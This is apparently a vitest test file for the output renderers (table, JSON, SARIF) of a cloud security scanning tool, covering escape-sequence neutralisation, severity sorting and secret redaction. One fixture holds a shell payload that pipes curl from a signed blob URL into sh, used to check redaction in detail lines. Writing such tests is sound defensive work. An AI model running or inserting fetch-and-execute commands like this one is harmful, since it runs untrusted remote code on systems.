import { describe, expect, it } from "vitest";
import { FORMAT_NAMES, FORMATS, isFormat } from "../../src/outputs/index.js";
import { renderTable } from "../../src/outputs/table.js";
import { ESC, makeResult } from "./fixtures.js";

// biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence.
const CONTROL_EXCEPT_NEWLINE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: stripping our own colour codes.
const SGR = /\u001b\[[0-9;]*m/g;

describe("renderTable", () => {
  it("neutralises escape sequences and newlines from the data", () => {
    const { result } = makeResult();
    const out = renderTable(result, { color: false });
    expect(out).not.toContain(ESC);
    expect(out).not.toMatch(CONTROL_EXCEPT_NEWLINE);
    expect(out).not.toContain("fake second line\n");
    expect(out).toContain("⏎");
  });

  it("adds colour only when asked, and only SGR colour codes", () => {
    const { result } = makeResult();
    const plain = renderTable(result, { color: false });
    const coloured = renderTable(result, { color: true });
    expect(coloured).toContain(`${ESC}[`);
    // Every escape in coloured output is one of ours (SGR); removing them gives the plain table.
    expect(coloured.replace(SGR, "")).toBe(plain);
    expect(coloured.replace(SGR, "")).not.toContain(ESC);
  });

  it("summarises the scan and sorts rows by severity, then time", () => {
    const { result, secrets } = makeResult();
    const out = renderTable(result, { color: false });
    const lines = out.split("\n");
    expect(lines[0]).toContain("scan-20240501-0001");
    expect(lines[1]).toContain("3 findings (1 critical, 1 high, 1 medium)");
    expect(lines[1]).toContain("1234 records read");
    expect(lines[1]).toContain("scan INCOMPLETE");
    expect(lines[1]).toContain("AuthorizationFailed");
    const header = lines.findIndex((l) => l.startsWith("SEVERITY"));
    expect(lines[header]).toMatch(/^SEVERITY +TIME +TECHNIQUE\(S\) +TITLE +RESOURCE +PRINCIPAL$/);
    const rows = lines.slice(header + 2, header + 5);
    expect(rows.map((r) => r.split(/\s+/)[0])).toEqual(["critical", "high", "medium"]);
    expect(rows[0]).toContain("sites/func-orders");
    expect(rows[0]).toContain("2024-05-01 09:00:00Z");
    expect(rows[1]).toContain("mallory@contoso.example");
    expect(rows[2]).toContain("T1610,T1059.004");
    expect(out).toContain("Coverage:");
    expect(out).toMatch(/partial +activity-export/);
    expect(out).toMatch(/failed +role-assignment-rest/);
    for (const s of Object.values(secrets)) expect(out).not.toContain(s);
  });

  it("fits a narrow terminal", () => {
    const { result } = makeResult();
    const out = renderTable(result, { color: false, width: 100 });
    const lines = out.split("\n");
    const header = lines.findIndex((l) => l.startsWith("SEVERITY"));
    for (const l of lines.slice(header, header + 5)) expect(Array.from(l).length).toBeLessThanOrEqual(100);
  });

  it("says so in one line when there are no findings", () => {
    const { result } = makeResult();
    const out = renderTable(
      { ...result, findings: [], complete: true, coverage: result.coverage.slice(0, 1) },
      { color: false },
    );
    expect(out.split("\n").filter((l) => l === "No findings.")).toHaveLength(1);
    expect(out).not.toContain("SEVERITY");
    expect(out).toContain("scan complete");
    expect(out).toContain("Coverage: the source was read completely.");
  });
});

describe("format registry", () => {
  it("registers table, json and sarif behind one signature", () => {
    expect(FORMAT_NAMES).toEqual(["table", "json", "sarif"]);
    expect(isFormat("sarif")).toBe(true);
    expect(isFormat("toString")).toBe(false);
    expect(isFormat("xml")).toBe(false);
    const { result } = makeResult();
    const ctx = { toolVersion: "0.1.0", color: false };
    for (const name of FORMAT_NAMES) {
      const out = FORMATS[name](result, ctx);
      expect(out.endsWith("\n")).toBe(true);
    }
    expect(JSON.parse(FORMATS.json(result, ctx)).schemaVersion).toBe("1");
    expect(JSON.parse(FORMATS.sarif(result, { ...ctx, artifactUri: "audit.yml" })).version).toBe("2.1.0");
  });
});

describe("renderTable detail lines", () => {
  it("shows the payload that ran under its finding, redacted and on one line", () => {
    const { result } = makeResult();
    const f = result.findings[0];
    if (!f) throw new Error("fixture has no finding");
    const sig = "c2VjcmV0c2lnbmF0dXJlMTIzNDU2Nzg5MA";
    f.evidence.vector = "Run Command (managed)";
    f.evidence.payloads = [
      {
        kind: "script",
        path: "properties.source.script",
        content: `#!/bin/sh\ncurl -fsSL "https://x.blob.core.windows.net/c/s.sh?sv=2024-11-04&sig=${sig}" | sh`,
      },
    ];
    const text = renderTable({ ...result, findings: [f] }, { color: false });
    const line = text.split("\n").find((l) => l.includes("↳"));
    expect(line).toContain("properties.source.script: #!/bin/sh curl -fsSL");
    expect(text).not.toContain(sig);
  });
});
